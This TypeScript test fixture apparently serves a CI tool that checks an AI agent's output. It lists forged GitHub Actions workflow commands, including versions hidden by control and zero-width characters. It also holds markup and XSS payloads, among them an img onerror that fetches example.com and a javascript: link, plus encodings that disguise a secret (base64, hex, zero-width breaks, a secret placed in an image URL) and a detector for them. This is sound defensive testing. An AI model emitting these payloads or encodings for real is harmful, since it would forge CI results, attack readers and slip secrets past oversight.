/** What an agent may write to forge a command, to fool a reader, or to carry a secret out. One list for each technique. */

/** Every spelling that the runner would obey, each with the word that it would leave behind. */
export const COMMANDS: readonly string[] = [
  '::error file=a.ts,line=1::FORGED',
  '  ::warning::FORGED',
  '\t::notice::FORGED',
  '::SET-OUTPUT name=conclusion::FORGED',
  '::save-state name=FORGED::FORGED',
  '::set-env name=FORGED::FORGED',
  '::add-path::FORGED',
  '::add-mask::FORGED',
  '::add-matcher::FORGED.json',
  '::stop-commands::FORGED',
  '##[error]FORGED',
  'harmless ##[set-output name=conclusion;]FORGED',
  'harmless ##[add-mask]FORGED',
  'progress 1%\r::notice::FORGED\rprogress 2%\r##[group]FORGED',
  'vertical tab\u000b::error::FORGED',
  'form feed\u000c::error::FORGED',
  'next line\u0085::error::FORGED',
  'line separator\u2028::error::FORGED',
  'paragraph separator\u2029::error::FORGED',
  '\u001b[2K::error::FORGED',
  '\u001b]0;title\u0007::error::FORGED',
  ':\u001b[0m:error::FORGED',
  ':\u200b:error::FORGED',
  '##\u001b[0m[error]FORGED',
  '#\u200b#[error]FORGED',
  '\ufeff::error::FORGED',
  '\u0000::error::FORGED',
  '\u00a0::error::FORGED',
  '\u3000::error::FORGED',
  '::debug::FORGED',
  '\n::endgroup::\n::group::FORGED'
]

/** Markdown and HTML that would render, link, mention or close what is ours. `FORGED-MARKUP` must stay within code. */
export const MARKUP: readonly string[] = [
  '```',
  '````',
  '`````mermaid',
  '</details></summary></td></table>',
  '<img src="https://example.com/FORGED-MARKUP">',
  '<img src=x onerror="fetch(`https://example.com/FORGED-MARKUP`)">',
  '<svg onload=alert(1)>FORGED-MARKUP</svg>',
  '<a href="javascript:alert(1)">FORGED-MARKUP</a>',
  '</pre></code><script>FORGED-MARKUP</script>',
  '<!-- FORGED-MARKUP',
  '![FORGED-MARKUP](https://example.com/x.png)',
  '[FORGED-MARKUP](https://example.com)',
  '[FORGED-MARKUP][ref]',
  '[ref]: https://example.com "FORGED-MARKUP"',
  '[^1]: FORGED-MARKUP',
  '@octo/team FORGED-MARKUP, mail@octo/team, #12, GH-12, octo/calculator#12',
  'https://example.com/FORGED-MARKUP www.example.com/FORGED-MARKUP',
  '# FORGED-MARKUP',
  '| a | FORGED-MARKUP |\n| - | - |',
  '> FORGED-MARKUP',
  '$$\\text{FORGED-MARKUP}$$',
  'right to left \u202eFORGED-MARKUP\u202c isolate \u2067FORGED-MARKUP\u2069',
  `tags ${Array.from('hidden words', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  '~~~'
]

/** Characters that no sink may show. */
export const HIDDEN = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u

/** The forms in which a secret is carried, by the name of the technique. */
export function disguise(secret: string): ReadonlyMap<string, string> {
  const bytes = Buffer.from(secret)
  const base64 = bytes.toString('base64').replace(/=+$/, '')
  return new Map([
    ['as it is', secret],
    ['base64', base64],
    ['base64 in lines', base64.replace(/.{24}/g, '$&\n')],
    ['base64 of a text', Buffer.from(`key is ${secret}, ok`).toString('base64')],
    ['base64url', bytes.toString('base64url')],
    ['hex', bytes.toString('hex')],
    ['HEX', bytes.toString('hex').toUpperCase()],
    ['hex in lines', bytes.toString('hex').replace(/.{32}/g, '$&\n')],
    ['url', encodeURIComponent(secret)],
    ['json', JSON.stringify(JSON.stringify(secret))],
    ['backwards', Array.from(secret).reverse().join('')],
    ['coloured', secret.replace(/.{5}/g, '$&\u001b[31m')],
    ['broken by marks without width', secret.replace(/.{3}/g, '$&\u200b')],
    ['broken by line ends', secret.replace(/.{9}/g, '$&\n')],
    ['link', `https://example.com/?q=${secret}`],
    ['image', `![x](https://example.com/${encodeURIComponent(secret)}.png)`]
  ])
}

/** What breaks a word without being seen. */
// eslint-disable-next-line no-control-regex -- colours are what is looked for
const BREAKS = /(?:\s|\\+[nrt]|(?:\u001b|\\+u001b)\[[0-9;]*m|[\u200b-\u200f])+/g

/** The techniques whose secret can be read in a text: as is, and with all that breaks words taken out. */
export function findDisguised(text: string, secret: string): string[] {
  const seen = text.replace(BREAKS, '')
  return [...disguise(secret)]
    .filter(([, form]) => {
      const joined = form.replace(BREAKS, '')
      // The first letters of base64 also depend on what precedes them.
      return text.includes(form) || seen.includes(joined) || seen.includes(joined.slice(4, -8))
    })
    .map(([name]) => name)
}
